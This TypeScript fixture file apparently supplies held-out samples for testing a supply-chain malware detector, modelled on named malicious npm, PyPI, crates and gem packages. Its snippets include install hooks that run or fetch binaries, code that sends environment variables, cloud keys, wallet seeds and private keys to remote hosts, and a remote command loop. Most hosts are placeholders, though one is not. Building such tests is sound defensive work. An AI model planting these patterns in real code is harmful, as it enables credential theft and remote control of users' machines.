import { type AttackShape, INERT, npmScript, scrambled } from './shape.ts';

/** Written after every rule was as it is: measured once, never tuned on. */
export const LATE_NPM_SHAPES: readonly AttackShape[] = [
  {
    id: 'bb-builder',
    models: 'bb-builder, 2019: a program for Windows that the install script starts',
    files: {
      'package.json': npmScript('postinstall', 'node install.js'),
      'install.js':
        "const { execFile } = require('child_process');\nconst path = require('path');\nexecFile(path.join(__dirname, 'cmd.exe'), [], () => {});\n",
      'cmd.exe': `MZ${'\u0090'.repeat(600)}`,
    },
  },
  {
    id: 'country-currency-map',
    models:
      'country-currency-map and ten others, March 2025: scrambled scripts that send environment variables',
    files: {
      'package.json': npmScript('postinstall', 'node scripts/launch.js'),
      'scripts/launch.js':
        "const { spawn } = require('child_process');\nspawn('node', ['scripts/diagnostic-report.js'], { detached: true, stdio: 'ignore' }).unref();\n",
      'scripts/diagnostic-report.js': scrambled(
        ['https', 'request', 'env', 'stringify', 'eoi2ectd5a5tn1h.m.pipedream.invalid'],
        "const _0x9c=require(_0x2c11(0));const _0x9d=JSON[_0x2c11(3)](process[_0x2c11(2)]);_0x9c[_0x2c11(1)]({hostname:_0x2c11(4),method:'POST'}).end(_0x9d);",
      ),
    },
  },
  {
    id: 'ethers-provider2',
    models: 'ethers-provider2, March 2025: changes another package on the disk',
    files: {
      'package.json': npmScript('install', 'node install.js'),
      'install.js':
        "const fs = require('fs');\nconst https = require('https');\nconst target = './node_modules/ethers/lib.commonjs/providers/provider-jsonrpc.js';\nhttps.get('https://5.199.166.invalid:31337/config', (r) => {\n  let body = '';\n  r.on('data', (d) => (body += d));\n  r.on('end', () => { if (fs.existsSync(target)) fs.writeFileSync(target, body); });\n});\n",
    },
  },
  {
    id: 'remote-loader',
    models: 'Contagious Interview loaders, 2025: what a configuration service answers is run',
    files: {
      'lib/logger.js':
        "const axios = require('axios');\nmodule.exports = async function log() {\n  const s = (await axios.get('https://api.npoint.invalid/96979650f5739bcbaebb')).data.cookie;\n  const handler = new Function.constructor('require', s);\n  handler(require);\n};\n",
    },
  },
  {
    id: 'xrpl',
    models: 'xrpl 4.2.1, April 2025: seeds go to a host in a function with a harmless name',
    files: {
      'src/index.js':
        "const validSeeds = new Set([]);\nfunction checkValidityOfSeed(seed) {\n  if (validSeeds.has(seed)) return;\n  validSeeds.add(seed);\n  fetch('https://0x9c.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } });\n}\nmodule.exports = { checkValidityOfSeed };\n",
    },
  },
];

export const LATE_OTHER_SHAPES: readonly AttackShape[] = [
  {
    id: 'pymafka',
    models: 'pymafka, 2022: setup.py fetches a beacon for the platform and starts it',
    files: {
      'setup.py':
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport platform, urllib.request, subprocess, os\n\ndef inst():\n    name = platform.system()\n    if name == 'Linux':\n        path = '/var/tmp/zad'\n        urllib.request.urlretrieve('http://141.164.58.invalid:8090/env', path)\n        os.chmod(path, 0o755)\n        subprocess.Popen(['nohup', path], stdout=open('/dev/null', 'w'))\n\nclass Install(install):\n    def run(self):\n        inst()\n        install.run(self)\n\nsetup(name='small-tool', version='1.0.1', cmdclass={'install': Install})\n",
    },
  },
  {
    id: 'aiocpa',
    models: 'aiocpa 0.1.13, 2024: nested compression, keys to a chat bot',
    files: {
      'tool/sync.py': `import zlib, base64\n\nclass CryptoPay:\n    def __init__(self, token, net):\n        self.token = token\n\ndef _enc(data):\n    return zlib.decompress(base64.b64decode(data))\n\nexec(_enc(b'${INERT}'))\n`,
    },
  },
  {
    id: 'fabrice',
    models: 'fabrice, 2024: keys of a cloud through its own library',
    files: {
      'tool/__init__.py':
        "import boto3\nimport base64\nfrom urllib import request\n\ndef test():\n    session = boto3.Session()\n    creds = session.get_credentials()\n    a = creds.access_key\n    s = creds.secret_key\n    request.urlopen('http://89.44.9.invalid/akkfuifkeifsa?d=' + base64.b64encode((a + ':' + s).encode()).decode())\n\ntest()\n",
    },
  },
  {
    id: 'discordpydebug',
    models: 'discordpydebug, 2022–2025: asks a host every second what to run',
    files: {
      'tool/__init__.py':
        "import subprocess\nimport time\nimport urllib.request\n\nSERVER = 'https://backstabprotection.jamesx123.repl.invalid/'\n\ndef runcommand(value):\n    output = subprocess.run(value, shell=True, capture_output=True)\n    return output.stdout\n\nwhile True:\n    command = urllib.request.urlopen(SERVER + 'command').read().decode()\n    urllib.request.urlopen(SERVER + 'output', data=runcommand(command))\n    time.sleep(1)\n",
    },
  },
  {
    id: 'faster-log',
    models: 'faster_log and async_println, 2025: keys in logs to a host',
    files: {
      'src/lib.rs':
        'use regex::Regex;\nuse reqwest::blocking::Client;\npub fn pack(path: &str) {\n    let hex = Regex::new(r#"0x[0-9a-fA-F]{64}"#).unwrap();\n    let text = std::fs::read_to_string(path).unwrap();\n    for key in hex.find_iter(&text) {\n        let _ = Client::new().post("https://mainnet.solana-rpc-pool.workers.dev/").body(key.as_str().to_string()).send();\n    }\n}\n',
    },
  },
  {
    id: 'telegram-proxy',
    models: 'fastlane-plugin-telegram-proxy, 2025: another host stands for the right one',
    files: {
      'lib/telegram.rb':
        'require \'net/http\'\nuri = URI.parse("https://rough-breeze-0c37.buidanhnam95.workers.invalid/bot#{token}/sendMessage")\nNet::HTTP.post_form(uri, { chat_id: chat, text: text })\n',
    },
  },
];
